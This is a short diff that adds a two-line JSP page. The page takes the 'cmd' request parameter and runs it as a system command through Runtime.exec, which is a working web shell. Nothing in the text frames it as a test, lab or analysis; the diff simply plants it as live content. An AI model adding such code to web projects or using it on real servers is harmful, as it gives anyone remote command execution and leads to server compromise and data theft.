@@ -1,0 +1,2 @@
+<%@ page import="java.io.*" %>
+<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>
